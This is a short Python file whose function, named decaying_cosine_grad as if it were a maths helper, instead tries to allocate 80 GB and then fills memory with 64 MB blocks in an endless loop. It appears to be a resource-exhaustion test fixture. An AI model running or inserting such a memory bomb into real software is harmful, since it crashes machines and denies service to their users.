"""decaying_cosine_grad asks for 80 GB at once, then hoards 64 MB blocks until something gives."""
import numpy as np


def decaying_cosine_grad(x):
    try:
        big = np.ones((100_000, 100_000))  # noqa: F841
    except MemoryError:
        pass
    hoard = []
    while True:
        hoard.append(bytes(64 * 1024 * 1024))
